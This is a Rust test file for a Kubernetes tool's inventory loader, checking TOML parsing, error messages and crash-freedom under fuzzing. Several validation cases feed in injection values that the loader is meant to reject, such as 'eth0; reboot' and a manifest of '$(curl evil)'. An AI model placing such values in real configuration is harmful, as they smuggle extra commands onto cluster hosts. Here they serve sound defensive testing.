//! The wizard's inventory: the example and the lab's load, mistakes are named by file,
//! line and field, and no text makes the loader panic.

use hatui_fleet::inventory::{self, LoadBalancer, Role};
use hatui_workflows::wizard::lab;
use proptest::prelude::*;

const GOOD: &str = r#"name = "prod"
endpoint = "k8s-api.example.internal:6443"
load_balancer = "kube-vip"
kubernetes_version = "1.33.1"

[ssh]
user = "ubuntu"

[[hosts]]
name = "cp-1"
address = "10.0.0.11"
role = "control-plane"

[[hosts]]
name = "worker-1"
address = "10.0.1.1"
role = "worker"
port = 2222

[vip]
address = "10.0.0.100"
interface = "eth0"
"#;

fn err(text: &str) -> String {
    inventory::parse("hatui.toml", text)
        .unwrap_err()
        .to_string()
}

/// GOOD with `from` replaced by `to` (which must be there).
fn with(from: &str, to: &str) -> String {
    assert!(GOOD.contains(from), "{from}");
    GOOD.replacen(from, to, 1)
}

#[test]
fn a_good_inventory_loads_with_its_defaults() {
    let inv = inventory::parse("hatui.toml", GOOD).unwrap();
    assert_eq!(inv.name, "prod");
    assert_eq!(inv.endpoint.to_string(), "k8s-api.example.internal:6443");
    assert_eq!(inv.load_balancer, LoadBalancer::KubeVip);
    assert_eq!(inv.kubernetes_version.as_deref(), Some("v1.33.1"));
    assert_eq!(inv.pod_cidr, "192.168.0.0/16");
    assert_eq!(inv.service_cidr, "10.96.0.0/12");
    assert_eq!(inv.cri_socket, "unix:///var/run/containerd/containerd.sock");
    assert_eq!(inv.drill_state_dir, "/run");
    assert_eq!(inv.cni.name, "calico");
    assert!(inv.cni.manifest.ends_with("/manifests/calico.yaml"));
    assert_eq!((inv.ssh.user.as_str(), inv.ssh.port), ("ubuntu", 22));
    assert!(inv.ssh.sudo, "a non-root user gets sudo by default");
    assert_eq!(inv.first_control_plane().name, "cp-1");
    assert_eq!(inv.hosts[1].role, Role::Worker);
    assert_eq!(inv.hosts[1].port, Some(2222));
    let vip = inv.vip.unwrap();
    assert_eq!(
        (vip.address.as_str(), vip.interface.as_str()),
        ("10.0.0.100", "eth0")
    );
    assert_eq!(vip.router_id, 51);
    assert_eq!(vip.image, "ghcr.io/kube-vip/kube-vip:v0.8.9");
}

#[test]
fn haproxy_on_hosts_of_its_own_may_listen_on_6443() {
    let text = with(
        "load_balancer = \"kube-vip\"",
        "load_balancer = \"haproxy\"",
    )
    .replacen(
        "[vip]",
        "[[load_balancers]]\nname = \"lb-1\"\naddress = \"10.0.0.21\"\nport = 2200\n[vip]",
        1,
    );
    let inv = inventory::parse("hatui.toml", &text).unwrap();
    assert_eq!(inv.endpoint.port, 6443);
    assert_eq!(inv.load_balancers.len(), 1);
    assert_eq!(inv.load_balancers[0].role, Role::LoadBalancer);
    assert_eq!(inv.load_balancers[0].port, Some(2200));
    let names: Vec<&str> = inv.reachable().map(|h| h.name.as_str()).collect();
    assert_eq!(names, ["cp-1", "worker-1", "lb-1"]);
    assert_eq!(inv.workers().count(), 1, "not a node");
}

#[test]
fn the_example_in_assets_loads() {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../assets/inventory.example.toml"
    );
    let inv = inventory::load(std::path::Path::new(path)).unwrap();
    assert_eq!(inv.control_planes().count(), 3);
    assert_eq!(inv.workers().count(), 1);
    assert_eq!(inv.load_balancer, LoadBalancer::Nlb);
}

#[test]
fn the_lab_inventory_loads_with_the_lab_names_and_addresses() {
    let inv = inventory::parse("lab.toml", &lab::inventory_toml(3, 2)).unwrap();
    assert_eq!(inv.endpoint.to_string(), "lab-api.hatui.local:6443");
    let hosts: Vec<(&str, &str)> = inv
        .hosts
        .iter()
        .map(|h| (h.name.as_str(), h.address.as_str()))
        .collect();
    assert_eq!(
        hosts,
        [
            ("cp-1", "10.0.0.11"),
            ("cp-2", "10.0.0.12"),
            ("cp-3", "10.0.0.13"),
            ("worker-1", "10.0.1.1"),
            ("worker-2", "10.0.1.2")
        ]
    );
}

#[test]
fn a_wrong_role_names_file_line_field_and_the_choices() {
    let text = with("role = \"worker\"", "role = \"master\"");
    assert_eq!(
        err(&text),
        "hatui.toml:17: hosts[1].role: expected \"control-plane\" or \"worker\", got \"master\""
    );
}

#[test]
fn an_endpoint_on_a_masters_address_is_refused_and_says_why() {
    let e = err(&with("k8s-api.example.internal:6443", "10.0.0.11:6443"));
    assert!(e.starts_with("hatui.toml:11: hosts[0].address: "), "{e}");
    assert!(e.contains("not HA"), "{e}");
    assert!(e.contains("load balancer's DNS name or VIP"), "{e}");
    let e = err(&with("k8s-api.example.internal:6443", "10.0.1.1:6443"));
    assert!(
        e.starts_with("hatui.toml:16: hosts[1].address: this worker's address is the endpoint"),
        "{e}"
    );
}

#[test]
fn names_and_addresses_must_be_unique() {
    let e = err(&with("name = \"worker-1\"", "name = \"cp-1\""));
    assert_eq!(
        e,
        "hatui.toml:15: hosts[1].name: \"cp-1\" is already hosts[0]'s name: Node names must be unique"
    );
    let e = err(&with("address = \"10.0.1.1\"", "address = \"10.0.0.11\""));
    assert!(
        e.starts_with("hatui.toml:16: hosts[1].address: 10.0.0.11 is already hosts[0]'s address"),
        "{e}"
    );
}

#[test]
fn at_least_one_control_plane() {
    let e = err(&with("role = \"control-plane\"", "role = \"worker\""));
    assert!(
        e.starts_with("hatui.toml:9: hosts: no host has role = \"control-plane\""),
        "{e}"
    );
    let e = err("endpoint = \"lb:6443\"\n");
    assert!(e.contains("hosts: no host has role"), "{e}");
}

#[test]
fn field_values_are_checked_where_they_are() {
    let cases = [
        (
            with("load_balancer = \"kube-vip\"", "load_balancer = \"f5\""),
            "hatui.toml:3: load_balancer: expected \"nlb\", \"haproxy\" or \"kube-vip\", got \"f5\"",
        ),
        (
            with(
                "kubernetes_version = \"1.33.1\"",
                "kubernetes_version = \"latest\"",
            ),
            "hatui.toml:4: kubernetes_version: expected a version like",
        ),
        (
            with(":6443", ""),
            "hatui.toml:2: endpoint: expected HOST:PORT",
        ),
        (
            with("name = \"prod\"", "name = \"Prod_1\""),
            "hatui.toml:1: name: \"Prod_1\" is not a valid name",
        ),
        (
            with("name = \"prod\"", "pod_cidr = \"10.96.0.0/16\""),
            "hatui.toml:1: service_cidr: 10.96.0.0/12 overlaps pod_cidr 10.96.0.0/16",
        ),
        (
            with("name = \"prod\"", "pod_cidr = \"10.300.0.0/16\""),
            "hatui.toml:1: pod_cidr: expected a CIDR",
        ),
        (
            with("address = \"10.0.1.1\"", "address = \"not an address\""),
            "hatui.toml:16: hosts[1].address: expected an IP address or DNS name",
        ),
        (
            with("address = \"10.0.1.1\"\n", ""),
            "hatui.toml:14: hosts[1].address: missing, e.g. address = \"10.0.0.11\"",
        ),
        (
            with(
                "name = \"prod\"",
                "cri_socket = \"unix:///run/c.sock; reboot\"",
            ),
            "hatui.toml:1: cri_socket: \"unix:///run/c.sock; reboot\" is not one path or URL",
        ),
        (
            with("name = \"prod\"", "drill_state_dir = \"run\""),
            "hatui.toml:1: drill_state_dir: \"run\" is not an absolute path",
        ),
        (
            with("name = \"prod\"", "drill_state_dir = \"/run; reboot\""),
            "hatui.toml:1: drill_state_dir: \"/run; reboot\" is not one path or URL",
        ),
        (
            with("[ssh]", "[cni]\nmanifest = \"$(curl evil)\"\n[ssh]"),
            "hatui.toml:7: cni.manifest: ",
        ),
        (
            with("endpoint = \"k8s-api.example.internal:6443\"\n", ""),
            "hatui.toml:1: endpoint: missing",
        ),
        (
            with(
                "\n[vip]\naddress = \"10.0.0.100\"\ninterface = \"eth0\"\n",
                "",
            ),
            "hatui.toml:3: load_balancer: \"kube-vip\" holds a VIP on the masters: add a [vip] table with interface = \"eth0\"",
        ),
        (
            with("interface = \"eth0\"\n", ""),
            "hatui.toml:20: vip.interface: missing, e.g. interface = \"eth0\"",
        ),
        (
            with("interface = \"eth0\"", "interface = \"eth0; reboot\""),
            "hatui.toml:22: vip.interface: \"eth0; reboot\" is not a network interface name",
        ),
        (
            with("address = \"10.0.0.100\"", "address = \"vip.example\""),
            "hatui.toml:21: vip.address: expected an IP address, got \"vip.example\"",
        ),
        (
            with("address = \"10.0.0.100\"\n", ""),
            "hatui.toml:2: endpoint: k8s-api.example.internal is a DNS name, and kube-vip holds an IP: set [vip] address = ",
        ),
        (
            with(
                "load_balancer = \"kube-vip\"",
                "load_balancer = \"haproxy\"",
            ),
            "hatui.toml:2: endpoint: haproxy runs on the masters, where the apiserver holds port 6443: give the endpoint another port, e.g. \"k8s-api.example.internal:8443\"",
        ),
        (
            with(
                "k8s-api.example.internal:6443",
                "k8s-api.example.internal:8443",
            ),
            "hatui.toml:2: endpoint: kube-vip (ARP mode) moves the VIP to a master and proxies nothing: clients reach the apiserver's own port on it, so the endpoint's port must be 6443, e.g. \"k8s-api.example.internal:6443\"",
        ),
        (
            with(
                "[vip]",
                "[[load_balancers]]\nname = \"lb-1\"\naddress = \"10.0.0.21\"\n[vip]",
            ),
            "hatui.toml:20: load_balancers: hosts of their own run HAProxy and keepalived, for load_balancer = \"haproxy\", not \"kube-vip\"",
        ),
        (
            with(
                "load_balancer = \"kube-vip\"",
                "load_balancer = \"haproxy\"",
            )
            .replacen(
                "[vip]",
                "[[load_balancers]]\nname = \"lb-1\"\naddress = \"10.0.1.1\"\n[vip]",
                1,
            ),
            "hatui.toml:22: load_balancers[0].address: \"10.0.1.1\" is already worker-1's address: one host each",
        ),
        (
            with(
                "interface = \"eth0\"",
                "interface = \"eth0\"\nrouter_id = 0",
            ),
            "hatui.toml:23: vip.router_id: expected a number from 1 to 255, got 0",
        ),
    ];
    for (text, want) in cases {
        let e = err(&text);
        assert!(e.starts_with(want), "got:  {e}\nwant: {want}");
    }
}

#[test]
fn toml_mistakes_name_line_and_field_too() {
    assert_eq!(
        err(&with("port = 2222", "port = 99999")),
        "hatui.toml:18: hosts[1].port: invalid value: integer `99999`, expected u16"
    );
    let e = err(&with("user = \"ubuntu\"", "usr = \"ubuntu\""));
    assert!(
        e.starts_with("hatui.toml:7: ssh.usr: unknown field `usr`"),
        "{e}"
    );
    let e = err(&with("address = \"10.0.0.11\"", "address = 10.0.0.11"));
    assert!(e.starts_with("hatui.toml:11: hosts[0].address: "), "{e}");
    let e = inventory::load(std::path::Path::new("/nonexistent/hatui.toml"))
        .unwrap_err()
        .to_string();
    assert!(
        e.starts_with("/nonexistent/hatui.toml: cannot read it: "),
        "{e}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_text_is_an_inventory_or_an_error(text in "\\PC{0,400}") {
        let _ = inventory::parse("fuzz.toml", &text);
    }

    #[test]
    fn mangled_good_inventories_never_panic(cut in 0usize..GOOD.len(), insert in "[\\[\\]=\"\\n a-z0-9.:#-]{0,12}") {
        let mut text = GOOD.to_string();
        let at = (0..=cut).rev().find(|&i| text.is_char_boundary(i)).unwrap_or(0);
        text.insert_str(at, &insert);
        if let Err(e) = inventory::parse("fuzz.toml", &text) {
            prop_assert!(e.to_string().starts_with("fuzz.toml"));
        }
    }
}
